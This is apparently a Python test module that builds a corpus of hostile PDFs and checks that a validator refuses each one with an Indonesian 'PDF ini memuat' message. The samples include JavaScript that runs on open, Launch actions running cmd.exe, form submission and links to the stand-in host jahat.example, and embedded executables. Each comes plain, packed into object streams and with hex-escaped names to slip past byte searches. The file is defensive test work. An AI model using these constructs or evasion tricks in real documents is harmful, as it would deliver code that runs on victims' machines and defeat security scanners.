"""PDFs that act by themselves: plain, in object streams, under escaped names (U08)."""

import re
from io import BytesIO

import pikepdf

from tests.proof.hostile.corpus import join
from tests.proof.hostile.pdf_parts import assembled, paper, stream

ACTIVE = "PDF ini memuat"
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ATTACHED = stream(b"MZ", b"/Type /EmbeddedFile")
SPEC = b"<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>"


def _annotation(entries: bytes) -> bytes:
    return b"/Annots [<< /Type /Annot /Rect [0 0 300 300] %s >>]" % entries


def _pressed(action: bytes) -> bytes:
    return _annotation(b"/Subtype /Link /A << %s >>" % action)


KINDS = {
    "skrip saat dibuka": lambda: paper(root=b"/OpenAction " + SCRIPT),
    "skrip dalam pohon nama": lambda: paper(
        root=b"/Names << /JavaScript << /Names [(a) %s] >> >>" % SCRIPT
    ),
    "skrip saat halaman tampil": lambda: paper(page=b"/AA << /O %s >>" % SCRIPT),
    "skrip saat ditutup": lambda: paper(root=b"/AA << /WC %s >>" % SCRIPT),
    "skrip di isian": lambda: paper(
        root=b"/AcroForm << /Fields [4 0 R] >>",
        more={4: b"<< /FT /Tx /T (a) /AA << /K %s >> >>" % SCRIPT},
    ),
    "skrip di penanda": lambda: paper(
        root=b"/Outlines << /First 4 0 R /Count 1 >>", more={4: b"<< /Title (a) /A %s >>" % SCRIPT}
    ),
    "menjalankan program": lambda: paper(page=_pressed(b"/S /Launch /F (cmd.exe)")),
    "menjalankan program Windows": lambda: paper(
        root=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"
    ),
    "mengirim isian": lambda: paper(page=_pressed(b"/S /SubmitForm /F (http://jahat.example)")),
    "mengambil data": lambda: paper(page=_pressed(b"/S /ImportData /F (a.fdf)")),
    "rantai perintah": lambda: paper(
        page=_pressed(b"/S /GoTo /D [3 0 R] /Next [<< /S /GoTo /D [3 0 R] /Next %s >>]" % SCRIPT)
    ),
    "lampiran": lambda: paper(
        root=b"/Names << /EmbeddedFiles << /Names [(a) %s] >> >>" % SPEC, more={9: ATTACHED}
    ),
    "lampiran pada halaman": lambda: paper(
        page=_annotation(b"/Subtype /FileAttachment /FS %s" % SPEC), more={9: ATTACHED}
    ),
    "lampiran terkait": lambda: paper(root=b"/AF [%s]" % SPEC, more={9: ATTACHED}),
    "formulir XFA": lambda: paper(
        root=b"/AcroForm << /Fields [] /XFA 4 0 R >>", more={4: stream(b"<xdp:xdp/>")}
    ),
    "media kaya": lambda: paper(page=_annotation(b"/Subtype /RichMedia /RichMediaContent << >>")),
    "film": lambda: paper(page=_annotation(b"/Subtype /Movie /Movie << /F (a.avi) >>")),
    "suara": lambda: paper(page=_annotation(b"/Subtype /Sound /Sound << >>")),
    "layar": lambda: paper(page=_annotation(b"/Subtype /Screen /A << /S /Rendition /OP 0 >>")),
    "benda tiga dimensi": lambda: paper(page=_annotation(b"/Subtype /3D /3DD << >>")),
    "dokumen di dalam": lambda: paper(root=b"/OpenAction << /S /GoToE /T << /R /C >> >>"),
    "dokumen lain di jaringan": lambda: paper(
        root=b"/OpenAction << /S /GoToR /F (\\\\\\\\jahat.example\\\\a) /D [0 /Fit] >>"
    ),
    "alamat saat dibuka": lambda: paper(
        root=b"/OpenAction << /S /URI /URI (http://jahat.example/?buka) >>"
    ),
    "tautan skrip": lambda: paper(page=_pressed(b"/S /URI /URI (javascript:alert\\(1\\))")),
    "tautan ke komputer lain": lambda: paper(
        page=_pressed(b"/S /URI /URI (FILE://jahat.example/a)")
    ),
    "isi dari luar": lambda: paper(
        page=b"/Contents 4 0 R",
        more={4: stream(b"", b"/F << /FS /URL /F (http://jahat.example) >>", packed=False)},
    ),
}  # fmt: skip


def _packed(plain: bytes) -> bytes:
    """The same in object streams, where a search through the bytes finds nothing."""
    out = BytesIO()
    with pikepdf.open(BytesIO(plain)) as pdf:
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


_NAME = re.compile(rb"/(?!Type|Length|Filter|FlateDecode|Root|Size)([A-Z3])([A-Za-z3]+)")


def _escaped(plain: bytes) -> bytes:
    """The same with one letter of each name written as a number."""
    body = plain.rpartition(b"\nxref\n")[0] + b"\n"
    marked = _NAME.sub(lambda name: b"/#%02x%s" % (name[1][0], name[2]), body)
    objects = re.findall(rb"(\d+) 0 obj\n(.*?)\nendobj\n", marked, re.DOTALL)
    return assembled({int(number): data for number, data in objects})


for _kind, _make in KINDS.items():
    join(lambda make=_make: make(), f"{_kind} polos", "writing", refused=ACTIVE)
    join(lambda make=_make: _packed(make()), f"{_kind} terpadat", "writing", refused=ACTIVE)
    join(lambda make=_make: _escaped(make()), f"{_kind} tersamar", "writing", refused=ACTIVE)
